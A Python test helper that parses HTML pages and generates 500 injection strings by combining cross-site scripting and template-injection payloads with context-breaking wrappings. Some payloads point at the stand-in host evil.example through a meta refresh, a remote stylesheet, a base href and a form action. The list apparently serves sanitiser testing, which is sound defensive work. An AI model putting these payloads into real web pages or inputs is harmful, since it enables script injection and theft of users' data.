"""Reading HTML pages in tests, and texts that have broken out of pages elsewhere."""

from __future__ import annotations

import itertools
from html.parser import HTMLParser


class Page(HTMLParser):
    """What a page is made of: elements, attributes, and the raw text of scripts and styles."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.raw: dict[str, list[str]] = {"script": [], "style": []}
        self.texts: list[str] = []
        self._inside: str | None = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        if tag in self.raw:
            self._inside = tag
            self.raw[tag].append("")

    def handle_endtag(self, tag: str) -> None:
        self._inside = None if tag == self._inside else self._inside

    def handle_data(self, data: str) -> None:
        if self._inside:
            self.raw[self._inside][-1] += data
        else:
            self.texts.append(data)

    def values(self, name: str) -> list[str]:
        return [value for _, found, value in self.attributes if found == name]


def injections() -> list[str]:
    """500 strings that have broken out of pages elsewhere: payloads in the wrappings of different contexts."""
    payloads = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script href=data:,alert(1) />",
        "<iframe src=javascript:alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "<a href=&#106;avascript:alert(1)>x</a>",
        "<body onload=alert(1)>",
        "<meta http-equiv=refresh content='0;url=http://evil.example'>",
        "<link rel=stylesheet href=http://evil.example/x.css>",
        "<style>@import 'http://evil.example/x.css'</style>",
        "<base href=http://evil.example>",
        "<form action=http://evil.example><input autofocus onfocus=alert(1)>",
        "<object data=http://evil.example>",
        "<embed src=//evil.example>",
        "<video><source onerror=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><script>alert(1)</script></template>",
        "{{ 7*7 }}{% raw %}{{ ''.__class__.__mro__ }}",
        "javascript:alert(1)",
        "' onmouseover='alert(1)",
        '" onmouseover="alert(1)',
        "` onmouseover=alert(1)",
    ]
    wrappings = [
        "{}",
        '"{}',
        "'{}",
        '">{}',
        "'>{}",
        "-->{}",
        "]]>{}",
        "</title>{}",
        "</style>{}",
        "</script>{}",
        "</svg>{}",
        "</textarea></select></option>{}",
        "<!--{}",
        "<![CDATA[{}",
        "&lt;{}",
        "\\x3c{}",
        "\x00{}",
        "\u202e{}\ud800",
        "<{}",
        "{} x" * 3,
    ]
    return [w.replace("{}", p) for p, w in itertools.product(payloads, wrappings)]
